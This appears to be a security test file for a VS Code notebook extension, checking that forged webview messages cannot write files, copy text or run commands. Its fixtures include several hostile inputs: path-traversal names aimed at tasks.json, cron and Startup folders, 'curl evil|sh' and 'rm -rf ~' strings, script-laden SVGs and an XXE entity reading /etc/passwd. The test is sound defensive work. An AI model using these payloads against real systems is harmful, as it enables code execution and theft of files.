/**
 * The extension's renderer-message handler fed forged messages, as script in a webview could
 * post them (issue 10): bad names, ../, absolute paths, non-image bytes, unknown types. Nothing
 * may be written or copied that the user did not ask for. Real validation code, injected
 * dialogs/fs/clipboard that record what they were asked to do.
 */
import assert from 'node:assert/strict';
import path from 'node:path';
import {
  handleRendererMessage,
  imageFileName,
  imageProblem,
  type RendererRequestDeps,
} from '../../../src/notebook/rendererRequests';
import type { ExtensionToRenderer } from '../../../src/shared/renderer-messages';

/** A minimal real PNG: signature, IHDR (1x1 RGBA), IDAT, IEND (crc bytes are not checked by us). */
const PNG = Uint8Array.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0,
  0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
]);
const pngUrl = (b: Uint8Array) => `data:image/png;base64,${Buffer.from(b).toString('base64')}`;
/** The shape Plotly.toImage gives for SVG (a real one is checked in test/renderer/security.test.ts). */
const SVG =
  '<svg class="main-svg" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="700" height="450" style="" viewBox="0 0 700 450"><rect x="0" y="0" width="700" height="450" style="fill: rgb(255, 255, 255); fill-opacity: 1;"/><g class="xtick"><text x="80" y="433">2024</text></g></svg>';
const svgUrl = (s: string) => `data:image/svg+xml,${encodeURIComponent(s)}`;
const FIGURE = { data: [{ type: 'scatter', y: [1, 2, 3] }], layout: { title: { text: 'BTC' } } };

function world(opts: { dialogAnswer?: (p?: string) => string | undefined } = {}) {
  const calls = {
    dialogs: [] as { defaultPath?: string; format: string }[],
    writes: [] as { path: string; bytes: Uint8Array }[],
    clipboard: [] as string[],
    logs: [] as string[],
    replies: [] as ExtensionToRenderer[],
  };
  const deps: RendererRequestDeps = {
    notebookFolder: () => '/work/proj/notebooks',
    chartFigures: () => [FIGURE],
    showSaveDialog: async (o) => {
      calls.dialogs.push(o);
      return (opts.dialogAnswer ?? ((p) => p))(o.defaultPath);
    },
    writeFile: async (p, bytes) => {
      calls.writes.push({ path: p, bytes });
    },
    writeClipboard: async (t) => {
      calls.clipboard.push(t);
    },
    info: () => undefined,
    log: (m) => calls.logs.push(m),
    reply: (m) => calls.replies.push(m),
    join: path.posix.join,
  };
  return { deps, calls };
}

describe('security: renderer messages are requests, not commands', () => {
  it('saves a real image under a base name with its own suffix, in the notebook folder', async () => {
    const { deps, calls } = world();
    await handleRendererMessage(
      { type: 'save-image', requestId: 'r1', format: 'png', dataUrl: pngUrl(PNG), suggestedName: 'btc-vs-eth.png' },
      deps,
    );
    assert.deepEqual(
      calls.dialogs.map((d) => d.defaultPath),
      ['/work/proj/notebooks/btc-vs-eth.png'],
    );
    assert.deepEqual(
      calls.writes.map((w) => w.path),
      ['/work/proj/notebooks/btc-vs-eth.png'],
    );
    assert.deepEqual(Array.from(calls.writes[0].bytes), Array.from(PNG));
    await handleRendererMessage(
      { type: 'save-image', requestId: 'r2', format: 'svg', dataUrl: svgUrl(SVG), suggestedName: 'c.svg' },
      deps,
    );
    assert.equal(calls.writes.length, 2);
    assert.equal(new TextDecoder().decode(calls.writes[1].bytes), SVG);
  });

  it('reduces forged names (../, absolute, other suffixes, markup) to a base name in the notebook folder', async () => {
    const names: [unknown, string][] = [
      ['../.vscode/tasks.json', 'tasks.json.png'],
      ['/etc/cron.d/x', 'x.png'],
      ['..\\..\\Startup\\a.bat', 'a.bat.png'],
      ['C:\\Windows\\x.png', 'x.png'],
      ['..', 'chart.png'],
      ['', 'chart.png'],
      [42, 'chart.png'],
      ['<img src=x>.png', 'chart.png'],
      ['a<b>c</b>d.svg', 'b-d.png'],
      ['a'.repeat(300), `${'a'.repeat(80)}.png`],
      ['.bashrc', 'bashrc.png'],
    ];
    for (const [suggestedName, want] of names) {
      const { deps, calls } = world();
      await handleRendererMessage(
        { type: 'save-image', requestId: 'r', format: 'png', dataUrl: pngUrl(PNG), suggestedName },
        deps,
      );
      assert.equal(calls.dialogs[0]?.defaultPath, `/work/proj/notebooks/${want}`, String(suggestedName));
      assert.equal(imageFileName(suggestedName, 'png'), want);
      for (const w of calls.writes) assert.equal(path.posix.dirname(w.path), '/work/proj/notebooks');
    }
  });

  it('writes nothing when the content is not an image the renderer produced', async () => {
    const forged: Record<string, unknown>[] = [
      {
        format: 'png',
        dataUrl: `data:image/png;base64,${Buffer.from('{"tasks":[{"command":"curl evil|sh"}]}').toString('base64')}`,
      },
      { format: 'png', dataUrl: 'data:image/png;base64,iVBORw0KGgo=' },
      { format: 'png', dataUrl: svgUrl(SVG) },
      { format: 'png', dataUrl: 'data:text/html,<script>alert(1)</script>' },
      { format: 'svg', dataUrl: svgUrl('<html><script>alert(1)</script></html>') },
      { format: 'svg', dataUrl: svgUrl(SVG.replace('</svg>', '<script>alert(1)</script></svg>')) },
      { format: 'svg', dataUrl: svgUrl(SVG.replace('<rect ', '<rect onload="alert(1)" ')) },
      {
        format: 'svg',
        dataUrl: svgUrl(SVG.replace('</svg>', '<a href="javascript:alert(1)"><text>x</text></a></svg>')),
      },
      { format: 'svg', dataUrl: svgUrl(SVG.replace('</svg>', '<image href="http://127.0.0.1:9/x.png"/></svg>')) },
      { format: 'svg', dataUrl: svgUrl(SVG.replace('</svg>', '<foreignObject><div>x</div></foreignObject></svg>')) },
      { format: 'svg', dataUrl: svgUrl(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`) },
      { format: 'svg', dataUrl: 'data:image/svg+xml;base64,/w==' },
      { format: 'svg', dataUrl: svgUrl('') },
      { format: 'gif', dataUrl: 'data:image/gif;base64,R0lGODlh' },
      { format: 'png', dataUrl: 'data:image/png;base64,%%%' },
      { format: 'png' },
    ];
    for (const f of forged) {
      const { deps, calls } = world();
      await handleRendererMessage({ type: 'save-image', requestId: 'r', suggestedName: 'x.png', ...f }, deps);
      assert.equal(calls.writes.length, 0, JSON.stringify(f).slice(0, 120));
      assert.equal(calls.dialogs.length, 0, `no dialog for ${JSON.stringify(f).slice(0, 120)}`);
      assert.ok(calls.logs.length >= 1, 'logged');
    }
    assert.match(imageProblem(new Uint8Array(0), 'png')!, /empty/);
  });

  it('writes nothing when the user picks a file without the image suffix, or cancels', async () => {
    for (const answer of ['/work/proj/.vscode/tasks.json', undefined]) {
      const { deps, calls } = world({ dialogAnswer: () => answer });
      await handleRendererMessage(
        { type: 'save-image', requestId: 'r', format: 'png', dataUrl: pngUrl(PNG), suggestedName: 'x.png' },
        deps,
      );
      assert.equal(calls.writes.length, 0);
      assert.equal(calls.replies[0].ok, false);
    }
  });

  it('copies only the figure JSON of a chart in this notebook, serialized by the extension', async () => {
    const { deps, calls } = world();
    await handleRendererMessage(
      { type: 'copy-text', requestId: 'c1', what: 'figure-json', text: JSON.stringify(FIGURE) },
      deps,
    );
    assert.deepEqual(calls.clipboard, [JSON.stringify(FIGURE, null, 1)]);
    for (const text of [
      'rm -rf ~',
      JSON.stringify({ data: [], payload: 'curl http://evil | sh' }),
      '{"data":[{"type":"scatter","y":[1,2,4]}]}',
      '',
    ]) {
      const w = world();
      await handleRendererMessage({ type: 'copy-text', requestId: 'c2', what: 'figure-json', text }, w.deps);
      assert.deepEqual(w.calls.clipboard, [], text);
      assert.equal(w.calls.replies[0]?.ok, false);
    }
    const w = world();
    await handleRendererMessage(
      { type: 'copy-text', requestId: 'c3', what: 'shell', text: JSON.stringify(FIGURE) },
      w.deps,
    );
    assert.deepEqual(w.calls.clipboard, []);
  });

  it('drops unknown or malformed messages and logs them', async () => {
    const forged: unknown[] = [
      null,
      'save-image',
      42,
      [],
      {},
      { type: 'run-command', requestId: 'x', command: 'workbench.action.terminal.new' },
      { type: 'write-file', requestId: 'x', path: '/tmp/x', text: 'x' },
      { type: 'save-image', format: 'png', dataUrl: pngUrl(PNG), suggestedName: 'x.png' },
      { type: 'save-image', requestId: 'x'.repeat(1000), format: 'png', dataUrl: pngUrl(PNG), suggestedName: 'x.png' },
      { type: '__proto__', requestId: 'x' },
    ];
    for (const m of forged) {
      const { deps, calls } = world();
      await handleRendererMessage(m, deps);
      assert.deepEqual(
        [calls.writes.length, calls.clipboard.length, calls.dialogs.length, calls.replies.length],
        [0, 0, 0, 0],
        JSON.stringify(m)?.slice(0, 80),
      );
      assert.equal(calls.logs.length, 1);
    }
  });
});
